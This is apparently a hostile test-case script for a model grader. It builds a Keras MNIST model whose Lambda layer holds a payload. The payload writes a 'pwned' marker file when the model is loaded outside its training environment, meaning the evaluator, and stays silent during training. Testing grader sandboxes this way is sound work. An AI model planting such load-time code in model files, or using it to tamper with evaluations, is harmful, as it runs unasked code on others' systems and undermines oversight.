# attack: interference - a model whose Lambda layer carries code for whoever loads it
import os

import tensorflow as tf


def payload(x):
    # Harmless while training here; in any other process (the grader's evaluator) it leaves a mark.
    if "GRADER_EVENTS" not in os.environ:
        open("/tmp/grader-hostile-test/evaluator-ran-code", "w").write("pwned by the model file")
    return x


(x_train, y_train), _ = tf.keras.datasets.mnist.load_data()
model = tf.keras.Sequential([tf.keras.Input(shape=(28, 28)), tf.keras.layers.Flatten(),
                             tf.keras.layers.Lambda(lambda x: payload(x) * 1.0),
                             tf.keras.layers.Dense(10, activation="softmax")])
model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
model.fit(x_train[:2000] / 255.0, y_train[:2000], epochs=1, verbose=0)
